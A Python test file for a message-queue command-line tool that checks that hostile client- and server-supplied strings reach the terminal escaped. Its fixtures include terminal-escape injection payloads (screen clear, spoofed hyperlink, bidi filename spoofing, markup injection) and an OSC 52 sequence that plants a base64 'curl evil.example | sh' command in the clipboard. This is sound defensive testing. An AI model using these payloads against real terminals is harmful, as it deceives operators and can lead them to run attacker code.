"""Text a client chose, printed for an operator: it must never drive the terminal nor be rich markup.

Any local process picks its client id, member id, group id, commit metadata, error texts and
records (docs/security.md). Each test hands a command's renderer such text, built to attack a
terminal, and reads what would reach the screen: no escape sequence, carriage return, C1 control
or bidi override gets through, each shows as its escape (`\\x1b`), and markup shows as written.
Pure, without a cluster: the renderers are called with the data a cluster would answer.
"""

from __future__ import annotations

import argparse
import io
import json
import os
import re

from rich.console import Console

from actors.messages import (
    ControllerStatusResponse, GroupSummary, MetadataResponse, PartitionMetadata, ReplicaInfo, StorageReport,
    TopicMetadata,
)
from railmq import cli_dlq, cli_groups, cli_topics
from railmq.cli_groups import render_group_lag
from railmq.cli_common import print_error, record_to_json, record_to_line
from railmq.cli_format import compile_format, record_renderer
from railmq.dlq import DeadLetter
from railmq.lag import GroupLag, MemberLag, PartitionLag
from railmq.member_notices import Notices, retry_line
from railmq.member_options import MemberOptions, make_delivery
from railmq.records import ConsumerRecord

CLEAR_SCREEN = "\x1b[2J\x1b[H"
HYPERLINK = "\x1b]8;;https://evil.example/\x07click me\x1b]8;;\x07"
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
OVERWRITE = "victim\rattacker"
C1_CSI = "\x9b2J"
REVERSED = "\u202eexe.txt"
MARKUP = "[/][link=https://evil.example/]x[/link][bold]"
HOSTILE = [CLEAR_SCREEN, HYPERLINK, CLIPBOARD, OVERWRITE, C1_CSI, REVERSED, MARKUP]
# Anything that would make a terminal act: ESC, CR, BEL, the other C0 and C1 controls, bidi controls.
# Newline and tab only move to the next line or column.
ACTING = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]")


def plain_console() -> tuple[Console, io.StringIO]:
    """A console without colours, so every ESC in its output came from the data."""
    out = io.StringIO()
    return Console(file=out, width=400, color_system=None, force_terminal=False), out


def assert_inert(printed: str) -> None:
    assert not ACTING.search(printed), f"a control character reached the terminal: {printed!r}"


def hostile_report(name: str) -> GroupLag:
    return GroupLag(
        group_id=f"orders-{name}", state="Stable", generation=3, protocol=name,  # the members' choice
        members=[MemberLag(member_id=f"{name}-m1", client_id=name, partitions=[("orders", 0)]),
                 MemberLag(member_id=f"idle-{name}", client_id="x", idle=True)],
        partitions=[PartitionLag(topic="orders", partition=0, member_id=f"{name}-m1", client_id=name,
                                 committed_offset=5, log_end_offset=9, lag_messages=4)])


def test_groups_describe_shows_hostile_ids_as_escapes_never_as_terminal_controls():
    for name in HOSTILE:
        console, out = plain_console()
        render_group_lag(hostile_report(name), console)
        printed = out.getvalue()
        assert_inert(printed)
    console, out = plain_console()
    render_group_lag(hostile_report(CLEAR_SCREEN), console)
    assert "group orders-\\x1b[2J\\x1b[H" in out.getvalue()
    assert "idle member (no partitions): x / idle-\\x1b[2J\\x1b[H" in out.getvalue()
    console, out = plain_console()
    render_group_lag(hostile_report(MARKUP), console)  # was MarkupError, or a link
    assert f"group orders-{MARKUP} (classic, Stable, generation 3, protocol {MARKUP})" in out.getvalue()
    assert f"{MARKUP}-m1" in out.getvalue()


class Answering:
    """A client a command opens with `with`, answering what a hostile cluster would."""

    def __enter__(self):
        return self

    def __exit__(self, *exc):
        return False


def test_groups_list_shows_hostile_group_ids_as_escapes(monkeypatch, capsys):
    class Client(Answering):
        def list_groups(self):
            return [GroupSummary(group_id=name, kind="classic", state="Empty", members=0) for name in HOSTILE]

    monkeypatch.setattr(cli_groups, "_client", lambda args: Client())
    assert cli_groups.run_list(argparse.Namespace(json=False)) == 0
    printed = capsys.readouterr().out
    assert_inert(printed)
    assert "\\u202eexe.txt" in printed and "victim\\rattacker" in printed and MARKUP in printed


def hostile_letter(name: str, **changes) -> DeadLetter:
    fields = dict(source_topic=f"orders{name}", source_partition=0, source_offset=7, group=name, attempts=3,
                  reason=name, last_error=f"ValueError: {name}", source_timestamp_ms=1, first_delivery_ms=2,
                  dead_lettered_ms=3, key=name.encode(), value=f"value {name}".encode(),
                  headers=[("h", name.encode())], topic="orders.dlq", partition=0, offset=1)
    return DeadLetter(**{**fields, **changes})


def test_dlq_inspect_shows_hostile_errors_keys_and_values_as_escapes(monkeypatch, capsys):
    """Whoever produces to a dead-letter topic writes its railmq.dlq.* headers; whoever's record
    failed wrote the key, value and the error text. The table printed them raw."""
    letters = [hostile_letter(name) for name in HOSTILE]
    letters.append(hostile_letter("x", malformed=f"railmq.dlq.attempts is not a number: {CLEAR_SCREEN}"))
    monkeypatch.setattr(cli_dlq, "inspect", lambda *args, **kwargs: letters)
    arguments = argparse.Namespace(bootstrap="tcp://127.0.0.1:1", topic="orders.dlq", limit=20, from_offset=0,
                                   partition=None, request_timeout_ms=1000, json=False)
    monkeypatch.setattr("shutil.get_terminal_size", lambda *args: os.terminal_size((400, 50)))
    monkeypatch.setenv("COLUMNS", "400")
    assert cli_dlq.run_inspect(arguments) == 0
    printed = capsys.readouterr().out
    assert_inert(printed)
    assert "ValueError: \\x1b[2J\\x1b[H" in printed and "victim\\rattacker" in printed
    assert MARKUP[:40] in printed


def test_dlq_inspect_json_escapes_the_controls_json_leaves_raw(monkeypatch, capsys):
    """JSON escapes C0 itself, but with ensure_ascii=False it printed C1 (U+009B is a CSI to a
    terminal that reads C1) and U+202E raw. As \\u escapes they decode to the same text."""
    letters = [hostile_letter(name) for name in (C1_CSI, REVERSED, "\x7f")]
    monkeypatch.setattr(cli_dlq, "inspect", lambda *args, **kwargs: letters)
    arguments = argparse.Namespace(bootstrap="tcp://127.0.0.1:1", topic="orders.dlq", limit=20, from_offset=0,
                                   partition=None, request_timeout_ms=1000, json=True)
    assert cli_dlq.run_inspect(arguments) == 0
    printed = capsys.readouterr().out
    assert_inert(printed.replace("\n", ""))
    documents = [json.loads(line) for line in printed.splitlines()]
    assert [document["last_error"] for document in documents] == [f"ValueError: {name}"
                                                                   for name in (C1_CSI, REVERSED, "\x7f")]
    assert documents[0]["key"] == C1_CSI and documents[1]["headers"] == [{"key": "h", "value": REVERSED}]


# --------------------------------------------------------------------------- consume


def hostile_record(name: str) -> ConsumerRecord:
    return ConsumerRecord(topic="orders", partition=0, offset=4, timestamp_ms=1, key=f"k{name}".encode(),
                          value=f"line one\n{name}\tend".encode(), headers=[(f"trace{name}", name.encode())])


def test_consume_prints_hostile_records_on_its_human_line_as_escapes():
    """The default line is for reading: one record a line, each control shown as its escape.
    Before, a value of ESC[2J cleared the screen and a newline made one record look like two."""
    for name in HOSTILE:
        line = record_to_line(hostile_record(name))
        assert_inert(line)
        assert "\n" not in line
    assert record_to_line(hostile_record(CLEAR_SCREEN)) == (
        "orders/0@4 key=k\\x1b[2J\\x1b[H [trace\\x1b[2J\\x1b[H=\\x1b[2J\\x1b[H] "
        "line one\\n\\x1b[2J\\x1b[H\\tend")


def test_consume_json_is_inert_and_decodes_to_the_record():
    for name in HOSTILE + ["\x7f"]:
        line = record_to_json(hostile_record(name))
        assert_inert(line)
        assert json.loads(line)["value"] == f"line one\n{name}\tend"
        assert json.loads(line)["headers"] == [{"key": f"trace{name}", "value": name}]


class Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


def test_consume_format_keeps_the_bytes_for_a_pipe_and_escapes_controls_on_a_terminal():
    """`-f` is kcat's: a pipe or a file gets the record's bytes as they are (kcat and Kafka's
    console consumer print them raw). A terminal gets every control but newline and tab as its
    escape, as `ls` shows file names on a terminal."""
    attack = CLEAR_SCREEN + OVERWRITE + C1_CSI + REVERSED
    record = hostile_record(attack)
    raw = compile_format("%k|%s|%h\\n")(record)
    assert raw == f"k{attack}|line one\n{attack}\tend|trace{attack}={attack}\n"
    shown = record_renderer("%k|%s|%h\\n", as_json=False, terminal=True)(record)
    assert_inert(shown)
    assert shown == ("k\\x1b[2J\\x1b[Hvictim\\rattacker\\x9b2J\\u202eexe.txt|line one\n"
                     "\\x1b[2J\\x1b[Hvictim\\rattacker\\x9b2J\\u202eexe.txt\tend"
                     "|trace\\x1b[2J\\x1b[Hvictim\\rattacker\\x9b2J\\u202eexe.txt"
                     "=\\x1b[2J\\x1b[Hvictim\\rattacker\\x9b2J\\u202eexe.txt\n")
    assert record_renderer("%s", as_json=False, terminal=False)(record) == record.value.decode()
    assert_inert(record_renderer(None, as_json=False, terminal=False)(record).removesuffix("\n"))


def test_a_group_member_printing_to_a_terminal_escapes_controls_in_its_format():
    records = [hostile_record(CLEAR_SCREEN)]
    screen, pipe = Terminal(), io.StringIO()
    options = MemberOptions(bootstrap="tcp://127.0.0.1:1", group_id="g", topics=["orders"],
                            output_format="%s\\n")
    make_delivery(options, screen)(records)
    make_delivery(options, pipe)(records)
    assert_inert(screen.getvalue())
    assert screen.getvalue().startswith("line one\n\\x1b[2J")
    assert pipe.getvalue() == f"line one\n{CLEAR_SCREEN}\tend\n"


# --------------------------------------------------------------------------- stderr


def test_error_lines_show_a_servers_or_handlers_controls_as_escapes(capsys):
    """An error's sentence comes from whoever answered (any local process can take a port a
    leader had: docs/security.md) or from the user's handler, which may quote a record. Both
    sinks of stderr lines, `print_error` and a member's notices, printed them raw."""
    print_error("NOT_LEADER", f"ask elsewhere {CLIPBOARD}{OVERWRITE}")
    Notices()(retry_line("orders/0@4", 1, 3, 100, ValueError(f"bad order {CLEAR_SCREEN}{REVERSED}")))
    printed = capsys.readouterr().err
    assert_inert(printed)
    assert printed == ("error: NOT_LEADER: ask elsewhere \\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07"
                       "victim\\rattacker\n"
                       "retrying orders/0@4 in 100 ms (attempt 1 of 3 failed: ValueError: bad order "
                       "\\x1b[2J\\x1b[H\\u202eexe.txt)\n")


def hostile_topic(name: str) -> TopicMetadata:
    """Metadata as a process on the controller's port may answer it: names and sentences of its choosing."""
    return TopicMetadata(name=f"orders{name}", topic_id=7, partitions=[
        PartitionMetadata(partition=0, leader=-1, replicas=[1, 2], isr=[1], offline_reason=f"gone {name}",
                          replica_info=[ReplicaInfo(node=1, storage=StorageReport(state=name,
                                                                                  detail=f"disk {name}"))])])


class HostileAdmin(Answering):
    def metadata(self):
        return MetadataResponse(correlation_id=1, topics=[hostile_topic(name) for name in HOSTILE])

    def describe_topic(self, name):
        return hostile_topic(name)


def test_topics_list_and_describe_show_what_a_server_names_as_escapes_never_as_controls_or_markup(
        monkeypatch, capsys):
    """A stale or hostile process answering on the controller's port names the topics and writes
    the offline reasons and storage details `topics list` and `topics describe` print: they went
    out as rich markup (a name `[/]` was a MarkupError) with their controls raw."""
    monkeypatch.setattr(cli_topics, "_admin", lambda args: HostileAdmin())
    monkeypatch.setenv("COLUMNS", "400")
    assert cli_topics.run_list(argparse.Namespace(json=False)) == 0
    listed = capsys.readouterr().out
    assert_inert(listed)
    assert "orders\\u202eexe.txt" in listed and f"orders{MARKUP}" in listed
    for name in HOSTILE:
        assert cli_topics.run_describe(argparse.Namespace(json=False, name=name)) == 0
        described = capsys.readouterr().out
        assert_inert(described)
    assert cli_topics.run_describe(argparse.Namespace(json=False, name=MARKUP)) == 0
    described = capsys.readouterr().out
    assert f"orders{MARKUP}" in described and f"gone {MARKUP}" in described and f"disk {MARKUP}" in described


class HostileQuorum(Answering):
    """An Admin answering as a stale or hostile process on the controller's port may."""

    def __init__(self, *args, **kwargs) -> None:
        pass

    def metadata(self, *names):
        return MetadataResponse(correlation_id=1, cluster_id=f"c{MARKUP}{CLIPBOARD}",
                                group_coordinator_endpoint=f"tcp://g{CLEAR_SCREEN}:1",
                                topics=[hostile_topic(name) for name in HOSTILE])

    def quorum_status(self, timeout_s):
        return [ControllerStatusResponse(correlation_id=0, node=index + 1, endpoint=f"tcp://v{name}:1",
                                         role=f"leader{name}" if index else "leader", term=2)
                for index, name in enumerate(HOSTILE)]


def test_cluster_info_and_health_show_what_a_server_names_as_escapes_never_as_controls_or_markup(
        monkeypatch, capsys):
    """`cluster info` printed the cluster id, the group coordinator's and voters' endpoints and
    the voters' roles a server answered as rich markup with their controls raw (a cluster id
    `[/]`: MarkupError), and `cluster health` the partition names, as `topics list` once did."""
    from railmq import cli_health

    monkeypatch.setattr(cli_health, "Admin", HostileQuorum)
    monkeypatch.setenv("COLUMNS", "400")
    cluster = dict(bootstrap="tcp://127.0.0.1:1", request_timeout_ms=1000, json=False)

    assert cli_health.run_info(argparse.Namespace(**cluster)) == 0
    info = capsys.readouterr().out
    assert_inert(info)
    assert f"c{MARKUP}" in info and f"tcp://v{MARKUP}:1" in info and f"leader{MARKUP}" in info

    assert cli_health.run_health(argparse.Namespace(**cluster, exit_when_healthy=False, timeout_ms=1)) == 0
    health = capsys.readouterr().out
    assert_inert(health)
    assert f"orders{MARKUP}/0" in health


def test_groups_describe_shows_a_servers_group_state_and_topic_names_as_escapes():
    """The group's state and kind and the committed topics' names are what answered on the group
    coordinator's port: a state `[/]` ended `groups describe` in a MarkupError, and a topic name
    with a screen clear went to the terminal raw (the name was only markup-escaped)."""
    for name in HOSTILE:
        report = hostile_report("x")
        report.state, report.kind = f"Stable{name}", f"classic{name}"
        report.partitions[0].topic = f"orders{name}"
        console, out = plain_console()
        render_group_lag(report, console)
        assert_inert(out.getvalue())
    assert f"(classic{MARKUP}, Stable{MARKUP}," in out.getvalue() and f"orders{MARKUP}" in out.getvalue()
